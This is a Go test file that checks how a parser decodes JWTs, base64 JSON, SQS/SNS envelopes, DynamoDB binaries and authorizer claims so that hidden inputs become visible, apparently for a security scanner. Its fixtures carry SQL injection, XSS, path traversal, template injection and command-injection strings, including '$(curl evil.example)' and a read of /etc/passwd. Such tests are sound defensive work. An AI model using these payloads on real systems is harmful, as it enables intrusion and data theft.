package adapter

import (
	"encoding/base64"
	"encoding/json"
	"strings"
	"testing"
)

func jwt(header, payload string) string {
	e := base64.RawURLEncoding
	return e.EncodeToString([]byte(header)) + "." + e.EncodeToString([]byte(payload)) + ".c2lnbmF0dXJlLWJ5dGVz"
}

// fieldSet returns the non-key fields of ev as "source path=value".
func fieldSet(ev *Event) map[string]bool {
	out := map[string]bool{}
	for _, f := range ev.Request.Fields {
		if !f.Key {
			out[f.Source.String()+" "+f.Path+"="+f.Value] = true
		}
	}
	return out
}

func TestParseCarriers(t *testing.T) {
	token := jwt(`{"alg":"HS256","kid":"../../dev/null"}`, `{"sub":"42","name":"x' OR '1'='1"}`)
	prefs := base64.StdEncoding.EncodeToString([]byte(`{"theme":"dark","q":"<script>alert(1)</script>"}`))
	urlText := base64.RawURLEncoding.EncodeToString([]byte("; cat /etc/passwd #  ???>>>"))
	tests := []struct {
		name    string
		headers map[string]string
		want    []string
		notWant []string
	}{
		{
			name:    "bearer JWT in authorization",
			headers: map[string]string{"authorization": "Bearer " + token},
			want: []string{
				"headers headers.authorization.jwt.header.kid=../../dev/null",
				"headers headers.authorization.jwt.payload.name=x' OR '1'='1",
			},
		},
		{
			name:    "JWT and base64 JSON in cookies",
			headers: map[string]string{"cookie": "id=" + token + "; prefs=" + prefs},
			want: []string{
				"cookies cookies.id.jwt.payload.sub=42",
				"cookies cookies.prefs.base64.q=<script>alert(1)</script>",
			},
		},
		{
			name:    "base64url text in a header",
			headers: map[string]string{"x-state": urlText},
			want:    []string{"headers headers.x-state.base64=; cat /etc/passwd #  ???>>>"},
		},
		{
			name: "random tokens, hashes and words are not carriers",
			headers: map[string]string{
				"x-request-id": "3q2+7wAAAAAAAAAAAAAAAAAAAAAAAAAA",
				"x-sha":        "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
				"x-word":       "Supercalifragilisticexpialidocious",
				"x-short":      base64.StdEncoding.EncodeToString([]byte("' OR 1=1")),
			},
			notWant: []string{".base64", ".jwt"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ev, err := Parse(v2(t, tt.headers, "", false), Limits{})
			if err != nil {
				t.Fatal(err)
			}
			got := fieldSet(ev)
			for _, w := range tt.want {
				if !got[w] {
					t.Errorf("missing %q in %v", w, got)
				}
			}
			for k := range got {
				for _, nw := range tt.notWant {
					if strings.Contains(k, nw) {
						t.Errorf("unexpected carrier field %q", k)
					}
				}
			}
		})
	}
}

func TestParseSQSBase64AndSNSEnvelope(t *testing.T) {
	inner := base64.StdEncoding.EncodeToString([]byte(`{"order":{"note":"1; DROP TABLE users"}}`))
	sns, _ := json.Marshal(map[string]any{"Type": "Notification", "TopicArn": "arn:aws:sns:us-east-1:1:t", "MessageId": "m1",
		"Message": `{"cmd":"$(curl evil.example)"}`})
	ev := map[string]any{"Records": []map[string]any{
		{"eventSource": "aws:sqs", "messageId": "a", "body": inner},
		{"eventSource": "aws:sqs", "messageId": "b", "body": string(sns)},
	}}
	raw, _ := json.Marshal(ev)
	got, err := Parse(raw, Limits{})
	if err != nil {
		t.Fatal(err)
	}
	fs := fieldSet(got)
	for _, w := range []string{
		"record record[0].body.base64.order.note=1; DROP TABLE users",
		"record record[1].message.cmd=$(curl evil.example)",
	} {
		if !fs[w] {
			t.Errorf("missing %q in %v", w, fs)
		}
	}
}

func TestParseDynamoDBBinaryAndOldImage(t *testing.T) {
	ev := map[string]any{"Records": []map[string]any{{
		"eventSource": "aws:dynamodb",
		"dynamodb": map[string]any{
			"SequenceNumber": "1",
			"NewImage": map[string]any{
				"doc":   map[string]any{"B": base64.StdEncoding.EncodeToString([]byte(`{"html":"<img src=x onerror=alert(1)>"}`))},
				"blobs": map[string]any{"BS": []string{base64.StdEncoding.EncodeToString([]byte("plain words here")), base64.StdEncoding.EncodeToString([]byte(randomBytes(64)))}},
			},
			"OldImage": map[string]any{"name": map[string]any{"S": "{{7*7}}"}},
		},
	}}}
	raw, _ := json.Marshal(ev)
	got, err := Parse(raw, Limits{})
	if err != nil {
		t.Fatal(err)
	}
	fs := fieldSet(got)
	for _, w := range []string{
		"record record[0].NewImage.doc.html=<img src=x onerror=alert(1)>",
		"record record[0].NewImage.blobs[0]=plain words here",
		"record record[0].OldImage.name={{7*7}}",
	} {
		if !fs[w] {
			t.Errorf("missing %q in %v", w, fs)
		}
	}
	if len(got.Skipped) != 1 || got.Skipped[0].Path != "record[0].NewImage.blobs[1]" {
		t.Errorf("Skipped = %+v, want the random blob", got.Skipped)
	}
}

func TestParseAuthorizerClaims(t *testing.T) {
	raw := []byte(`{"version":"2.0","routeKey":"GET /","rawPath":"/","requestContext":{"http":{"method":"GET","path":"/"},` +
		`"authorizer":{"jwt":{"claims":{"email":"a@example.com","nickname":"<svg onload=alert(1)>"},"scopes":["read"]},` +
		`"lambda":{"tenant":"t1' UNION SELECT 1--"}}}}`)
	ev, err := Parse(raw, Limits{})
	if err != nil {
		t.Fatal(err)
	}
	fs := fieldSet(ev)
	for _, w := range []string{
		"headers requestContext.authorizer.jwt.claims.nickname=<svg onload=alert(1)>",
		"headers requestContext.authorizer.lambda.tenant=t1' UNION SELECT 1--",
	} {
		if !fs[w] {
			t.Errorf("missing %q in %v", w, fs)
		}
	}
}

func TestCarrierBounds(t *testing.T) {
	// A carrier nested in carriers is decoded at most maxCarrierNesting
	// levels deep.
	v := "innermost <script>alert(1)</script> text"
	for range 5 {
		v = base64.StdEncoding.EncodeToString([]byte(v))
	}
	ev, err := Parse(v2(t, map[string]string{"x-deep": v}, "", false), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	depth := 0
	for _, f := range ev.Request.Fields {
		if strings.HasPrefix(f.Path, "headers.x-deep") {
			depth = max(depth, strings.Count(f.Path, ".base64"))
		}
	}
	if depth != maxCarrierNesting {
		t.Errorf("carrier depth %d, want %d", depth, maxCarrierNesting)
	}
}
